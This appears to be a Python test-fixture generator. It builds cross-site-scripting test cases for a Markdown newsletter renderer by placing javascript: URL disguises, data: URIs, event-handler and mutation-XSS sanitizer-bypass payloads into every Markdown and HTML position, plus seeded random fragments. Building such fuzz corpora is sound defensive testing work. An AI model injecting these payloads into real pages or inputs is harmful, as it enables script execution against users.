"""Script injections made here: every disguise of a scheme and every payload in every place of an issue."""

from __future__ import annotations

import random
from collections.abc import Iterator

SEED = 20200617
FRAGMENTS = 3000

URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)",
    "\tjavascript:alert(1)", "java\tscript:alert(1)", "java\u00a0script:alert(1)", "javascript\t:alert(1)",
    "javascript :alert(1)", "\x01javascript:alert(1)", "\x1bjavascript:alert(1)", "java\x00script:alert(1)",
    "\ufeffjavascript:alert(1)", "\u200bjavascript:alert(1)", "\u202ejavascript:alert(1)", "javascript\uff1aalert(1)",
    "ｊavascript:alert(1)", "javaſcript:alert(1)", "java&#10;script:alert(1)", "java&#x09;script:alert(1)",
    "java&NewLine;script:alert(1)", "java&Tab;script:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "javascript&#x3a;alert&lpar;1&rpar;", "&#106;avascript:alert(1)",
    "&#x6a;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#1;javascript:alert(1)", "javascript%3Aalert(1)",
    "%6aavascript:alert(1)", "java%0ascript:alert(1)", "java%250ascript:alert(1)", "java\\script:alert(1)",
    "javascript\\:alert(1)", "\\javascript:alert(1)", "javascript://a.example/%0aalert(1)",
    "javascript:/*https://mp.weixin.qq.com/s/x*/alert(1)", "javascript:alert(1)//https://mp.weixin.qq.com/s/x",
    "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)",
    "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:image/png;base64,x\" onerror=\"alert(1)",
    "data:,alert(1)", "blob:https://a.example/x", "filesystem:https://a.example/x", "file:///etc/passwd",
    "https://mp.weixin.qq.com/s/x\" onclick=\"alert(1)", "https://mp.weixin.qq.com/s/x' onclick='alert(1)",
    "https://mp.weixin.qq.com/s/x\"><img src=x onerror=alert(1)>",
    "https://mp.weixin.qq.com/s/%22%3E%3Csvg/onload=alert(1)%3E", "https://a.example/x.png\" onerror=\"alert(1)",
    "https://a.example/%22onerror=alert(1)//.png", "//a.example/x", "\\\\a.example\\x",
)  # fmt: skip
"""Addresses that run, or that try to end the attribute they stand in."""

URL_PLACES = (
    "[甲]({})", "[甲](<{}>)", '[甲]({} "题")', "[甲](<{}> '题')", "![甲]({})", "![甲](<{}>)", '![甲]({} "题")',
    "[![甲]({})](https://a.example)", "[![甲](https://a.example/a.png)]({})", "<{}>", "{}", "**[甲]({})**",
    "[甲][r]\n\n[r]: {}", "[甲][r]\n\n[r]: <{}>", "![甲][r]\n\n[r]: {} 'x'", "[r]\n\n[r]: {}", "> [甲]({})",
    "- [甲]({})", "1. [甲]({})", "| 甲 |\n|---|\n| [乙]({}) |", "## [甲]({})", "甲[^1]\n\n[^1]: [乙]({})",
    "`[甲]({})`", '<a href="{}">甲</a>', "<a href='{}'>甲</a>", "<a href={}>甲</a>", "<A HREF=\"{}\">甲</A>",
    '<a x="<a" href="{}">甲</a>', '<img src="{}">', "<img src={}>",
    '<img src="https://a.example/a.png" srcset="{} 2x">', '<iframe src="{}"></iframe>',
    '<form action="{}"><button>甲</button></form>', '<button formaction="{}">甲</button>',
    '<object data="{}"></object>', '<embed src="{}">', '<base href="{}"><a href=x>甲</a>',
    '<meta http-equiv="refresh" content="0;url={}">', '<link rel="stylesheet" href="{}">',
    '<svg><a xlink:href="{}"><text y="9">甲</text></a></svg>',
    '<svg><animate attributeName="href" values="{}"/></svg>', '<math href="{}"><mi>甲</mi></math>',
    '<video poster="{}" src="{}"></video>', '<body background="{}">',
    '<table background="{}"><tr><td>甲</td></tr></table>', '<p style="background:url({})">甲</p>',
    '<map><area href="{}"></map>', '<blockquote cite="{}">甲</blockquote>', '<div>\n\n[甲]({})\n\n</div>',
    '<mp-common-profile data-pluginname="mpprofile" data-id="MzI5MTczODI3Ng==" data-nickname="甲" '
    'data-headimg="http://mmbiz.qpic.cn/{}"><a href="{}">甲</a></mp-common-profile>',
    '<a href="{}"\n>甲</a>', "- [{}]({})", "- 甲\n链接：{}", "- [甲](https://a.example)\n链接：[乙]({})",
    "- [甲](https://a.example) ![乙]({})", "甲：{}",
)  # fmt: skip
"""Where an address stands; the last five are lines of the newsletter's own."""

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</ScRiPt\t>", "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>", "<script src=https://a.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>", "<img/src=x/onerror=alert(1)>", "<img src='x' onerror='alert(1)'",
    "<img src=`x`onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<b onmouseover=alert(1)>甲</b>",
    "<b/onclick=alert(1)>甲", "<details open ontoggle=alert(1)>甲</details>", "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>", "<marquee onstart=alert(1)>甲</marquee>", "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>", "<plaintext><script>alert(1)",
    "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>",
    "<![CDATA[><script>alert(1)</script>]]>", "<?x ><script>alert(1)</script>?>", "</p><script>alert(1)</script>",
    "</section></body></html><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "x\" style=\"background:url(javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;svg onload=alert(1)&amp;gt;", "\\<img src=x onerror=alert(1)\\>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<a id=alert name=confirm class=article href=javascript:alert(1)>甲</a>",
    "<p id=payload class=primary>甲</p>", "`<img src=x onerror=alert(1)>`",
    "<a href=\"https://a.example/`<img src=x onerror=alert(1)>`\">甲</a>",
    "[<img src=x onerror=alert(1)>](https://a.example)", "<style>@import 'javascript:alert(1)';</style>",
    "<x-y onclick=alert(1)>甲</x-y>", "<a <img src=x onerror=alert(1)>>", "{{constructor.constructor('alert(1)')()}}",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
)  # fmt: skip
"""HTML that runs, in the ways that parsers, sanitisers and escapers were caught out by."""

HEAD = "# 简报 (2020-06-17)\n\n"
ENTRY = HEAD + "## 论文\n\n"

PLACES = {
    "front matter title": "---\ntitle: {}\n---\n\n# 简报\n\n文\n",
    "front matter block": "---\ntitle: >-\n  {}\n---\n\n文\n",
    "front matter in TOML": "+++\ntitle = '''{}'''\n+++\n\n文\n",
    "front matter of metadata": "Title: {}\nSummary: {}\n\n文\n",
    "front matter author": "---\nauthor: {}\n---\n\n# 简报\n\n文\n",
    "front matter digest": "---\ndigest: {}\n---\n\n# 简报\n\n文\n",
    "front matter source": "---\nsource_url: https://a.example/{}\n---\n\n# 简报\n\n文\n",
    "front matter layout": "---\nlayout: {}\n---\n\n# 简报\n\n文\n",
    "title": "# {}\n\n文\n",
    "subtitle": "# 简报 (2020-06-17)：{}\n\n文\n",
    "tagline": HEAD + "**{}**\n\n## 论文\n",
    "intro": HEAD + "> 导读：本期1条。「论文」{}\n\n## 论文\n",
    "note": HEAD + "> 注：{}\n\n## 论文\n",
    "brief": HEAD + "甲公司：{}\n{}：乙\n\n## 论文\n",
    "section": HEAD + "## {}\n\n- [甲](https://a.example)\n",
    "linked section": HEAD + "## [{}](https://a.example)\n",
    "entry title": ENTRY + "- [{}](https://a.example)\n",
    "entry source": ENTRY + "- [甲 | {}](https://a.example)\n",
    "entry tag": ENTRY + "- [{}] [甲](https://a.example)\n",
    "entry address": ENTRY + "- [甲](https://a.example/{})\n",
    "entry rest": ENTRY + "- [甲](https://a.example) {}\n",
    "entry without link": ENTRY + "- {}\n",
    "summary": ENTRY + "- [甲](https://a.example)\n摘要：{}\n",
    "label": ENTRY + "- [甲](https://a.example)\n{}：https://a.example/b\n",
    "short label": ENTRY + "- [甲](https://a.example)\n标题{:.8}：https://a.example/b\n",
    "value": ENTRY + "- [甲](https://a.example)\n标题：{}\n作者：{}\n",
    "address value": ENTRY + "- [甲](https://a.example)\n链接：https://a.example/{}\n",
    "nested item": ENTRY + "- [甲](https://a.example)\n  - {}\n    1. {}\n",
    "alt": HEAD + "![{}](https://a.example/a.png)\n",
    "missing picture": HEAD + "![甲](<{}>)\n",
    "picture title": HEAD + '![甲](https://a.example/a.png "{}")\n',
    "link text": HEAD + "[{}](https://mp.weixin.qq.com/s/x)\n",
    "link title": HEAD + '[甲](https://mp.weixin.qq.com/s/x "{}")\n',
    "reference": HEAD + "[{}]\n\n[{}]: https://a.example '{}'\n",
    "bare address": HEAD + "https://a.example/{}\n",
    "article address": HEAD + "[甲](<https://mp.weixin.qq.com/s/{}>)\n",
    "footnote": HEAD + "甲[^1]\n\n[^1]: {}\n",
    "footnote name": HEAD + "甲[^{}]\n\n[^{}]: 乙\n",
    "code": HEAD + "```\n{}\n```\n",
    "code language": HEAD + "```{}\nx\n```\n",
    "indented code": HEAD + "    {}\n",
    "code span": HEAD + "甲 `{}` 乙\n",
    "table": HEAD + "| {} | 甲 |\n|---|:-:|\n| 乙 | {} |\n",
    "quote": HEAD + "> {}\n> - {}\n",
    "task": HEAD + "- [ ] {}\n",
    "emphasis": HEAD + "**{}** *{}* ~~{}~~\n",
    "block": HEAD + "{}\n",
    "attribute": HEAD + '<img src="https://a.example/a.png" alt="{}" title=\'{}\'>\n',
    "cell attribute": HEAD + '<table><tr><td colspan="{}">甲</td></tr></table><ol start="{}"><li>甲</li></ol>\n',
    "style": HEAD + '<p style="{}" class="{}">甲</p>\n',
    "comment": HEAD + "<!-- {} -->\n",
    "around markdown": HEAD + "<div>\n\n{}\n\n</div>\n\n{}\n",
    "archive": HEAD
    + "文\n\n## 往期回顾\n\n| [{}](https://a.example) | 2020-06-03 |\n|---|---|\n| {} | [甲](2020-05-20.md) |\n",
    "contact": HEAD + "文\n\n---\n\nWechat ID: {}\nEditor: {}\nProject: {}\n",
    "qr code": HEAD + "文\n\n---\n\n![qrcode {}](assets/{})\nWechat ID: a\n",
    "licence": HEAD + '文\n\n---\n\nWechat ID: a\n<a href="https://creativecommons.org/licenses/by/4.0/{}">{}</a>\n',
}
"""Where text of an author stands, one by one; a payload goes wherever the braces are."""

SCRAPS = (
    "<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", '"', "'", "`", "``", "=", " ", "\n", "\n\n", "\t", "\\",
    "&", "&lt;", "&quot;", "&#x3c;", "(", ")", "[", "]", "](", "![", "[^1]", "\n[^1]: ", "<a href=", "<a ",
    "<img src=x ", "<img ", "onerror=alert(1)", "onclick=alert(1) ", "onload=alert(1)", "javascript:alert(1)",
    "https://mp.weixin.qq.com/s/x", "https://a.example/a.png", "style=", "id=x ", "class=article ", "<script>",
    "</script>", "alert(1)", "<svg>", "<svg ", "</svg>", "<math>", "<mtext>", "<mglyph>", "<style>", "</style>",
    "<title>", "</title>", "<textarea>", "<noscript>", "</noscript>", "<template>", "<table>", "<tr>", "<td>",
    "</table>", "<p>", "</p>", "<div>", "</div>", "<b>", "</b>", "<li>", "<form>", "<iframe srcdoc=",
    "<foreignObject>", "<annotation-xml encoding=text/html>", "# ", "## ", "- ", "> ", "1. ", "    ", "```",
    "\n```\n", "---\n", "| a |\n|---|\n| ", "**", "*", "~~", "摘要：", "链接：", "> 导读：", "\x00", "\u200b", "甲",
    "x",
)  # fmt: skip


def generate_issues() -> dict[str, str]:
    """Return every issue made here by the name of what it tries."""
    return dict([*_put_urls(), *_put_payloads(), *_put_fragments()])


def fill(place: str, text: str) -> str:
    """Put a text wherever a place has braces; `{:.8}` takes no more than that of it."""
    return place.replace("{:.8}", text[:8]).replace("{}", text)


def _put_urls() -> Iterator[tuple[str, str]]:
    for place in URL_PLACES:
        for url in URLS:
            yield f"{place!r} with {url!r}", ENTRY + fill(place, url) + "\n"


def _put_payloads() -> Iterator[tuple[str, str]]:
    for name, place in PLACES.items():
        for payload in PAYLOADS:
            yield f"{name} with {payload!r}", fill(place, payload)


def _put_fragments() -> Iterator[tuple[str, str]]:
    chance = random.Random(SEED)  # noqa: S311 - the same fragments each time; no secret
    places = list(PLACES.values())
    for number in range(FRAGMENTS):
        fragment = "".join(chance.choices(SCRAPS, k=chance.randint(3, 16)))
        yield f"fragment {number} {fragment!r}", fill(chance.choice(places), fragment)
